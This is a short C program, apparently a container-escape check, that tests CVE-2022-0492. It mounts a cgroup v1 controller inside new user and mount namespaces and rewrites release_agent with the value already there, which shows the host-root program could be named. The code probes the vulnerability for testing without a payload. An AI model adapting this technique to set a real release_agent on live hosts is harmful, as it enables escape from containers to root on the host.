/*
 * Names a program for the host to run, as root, when a cgroup is empty: mounts
 * the cgroups of version 1 in namespaces of its own (CVE-2022-0492; CDK
 * mount-cgroup). What it writes is what was there.
 */
#include "attempt.h"
#include <sched.h>
#include <sys/mount.h>

int main(void)
{
	static const char *const controllers[] = { "memory", "pids", "cpuset", "rdma", "devices", "freezer" };
	int fd = -1, met = 0;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		refused("unshare");
	for (int i = 0; i < 6 && fd < 0; i++) {
		char agent[256] = "";
		ssize_t n;

		if (mount("none", "/tmp", "cgroup", 0, controllers[i]) < 0) {
			met = met ? met : errno;
			continue;
		}
		fd = open("/tmp/release_agent", O_RDWR);
		if (fd < 0)
			refused("open");
		n = read(fd, agent, sizeof agent);
		if (write(fd, agent, n > 0 ? n : 0) < 0)
			refused("write");
		succeeded("named the program to run on the host");
	}
	errno = met;
	refused("mount");
}
